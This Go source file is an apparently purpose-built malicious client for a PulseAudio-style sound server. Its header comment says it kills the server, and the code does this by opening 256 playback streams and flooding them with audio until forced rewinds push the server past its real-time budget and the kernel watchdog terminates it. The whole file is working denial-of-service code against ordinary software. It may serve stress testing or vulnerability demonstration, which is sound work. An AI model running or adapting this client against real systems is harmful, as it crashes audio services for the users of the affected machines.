// Kill the sound server through write flooding.
//
// This client opens 256 playback streams and feeds all of them audio data
// as fast as the server grants write credit. The parallel streams force
// excessive rewinds in the server's playback engine until it exceeds its
// real-time scheduling budget and is killed by the kernel watchdog.
package main

import (
	"flag"
	"fmt"
	"log/slog"
	"os"

	"github.com/prometheus/client_golang/prometheus"

	"github.com/a-darwish/malicious-pulseaudio-clients/internal/client"
	"github.com/a-darwish/malicious-pulseaudio-clients/internal/config"
	"github.com/a-darwish/malicious-pulseaudio-clients/internal/eventloop"
	"github.com/a-darwish/malicious-pulseaudio-clients/internal/metrics"
	"github.com/a-darwish/malicious-pulseaudio-clients/internal/source"
)

const appName = "sndstress-flood-write"

func main() {
	configPath := flag.String("config", "", "Path to optional configuration file")
	flag.Parse()

	cfg := config.Default()
	if *configPath != "" {
		loaded, err := config.Load(*configPath)
		if err != nil {
			fmt.Fprintf(os.Stderr, "Failed to load configuration: %v\n", err)
			os.Exit(1)
		}
		cfg = loaded
	}
	if cfg.Server.ApplicationName == config.Default().Server.ApplicationName {
		cfg.Server.ApplicationName = appName
	}

	logger := config.NewLogger(cfg.Logging)

	file, err := source.Load(cfg.Audio.AssetPath)
	if err != nil {
		fmt.Fprintf(os.Stderr, "Failed to load audio asset: %v\n", err)
		os.Exit(1)
	}

	logger.Info("Client starting",
		slog.String("client", appName),
		slog.Int("stream_count", cfg.Stream.Count),
		slog.String("asset", file.Path()),
		slog.Int("asset_bytes", file.Len()),
		slog.String("sample_spec", file.Spec().String()),
	)

	appMetrics := metrics.New(prometheus.DefaultRegisterer)
	loop := eventloop.New()
	conn := client.New(logger, loop, appMetrics, cfg.Server)

	conn.OnReady = func(c *client.Conn) {
		for i := 0; i < cfg.Stream.Count; i++ {
			stream, err := c.NewStream(cfg.Stream.Name, file.Spec())
			if err != nil {
				c.Fail(fmt.Errorf("stream creation failed: %w", err))
				return
			}

			// Every stream drains the one shared asset buffer. The
			// event loop serializes all write callbacks, so the shared
			// read cursor needs no locking.
			stream.SetWriteCallback(func(s *client.Stream, hint int) {
				if err := s.Feed(file, hint); err != nil {
					c.Fail(err)
					return
				}

				if !file.Exhausted() {
					return
				}

				// Closing right after the last write would cut off the
				// tail of the buffered audio and produce a loud crack.
				// Exit only once the server confirms the drain.
				s.ClearWriteCallback()
				logger.Info("Reached end of audio asset, draining playback stream before exit",
					slog.Uint64("stream_id", uint64(s.ID())),
				)
				err := s.Drain(func(s *client.Stream) {
					logger.Info("Playback stream fully drained, exiting",
						slog.Uint64("stream_id", uint64(s.ID())),
						slog.Uint64("sink_index", uint64(s.SinkIndex())),
					)
					loop.Quit(0)
				})
				if err != nil {
					c.Fail(err)
				}
			})
		}

		logger.Info("Requested streams up to the per-sink limit",
			slog.Int("count", cfg.Stream.Count),
		)
	}

	if err := conn.Connect(); err != nil {
		logger.Error("Could not connect to sound server", slog.String("error", err.Error()))
		os.Exit(1)
	}

	os.Exit(loop.Run())
}
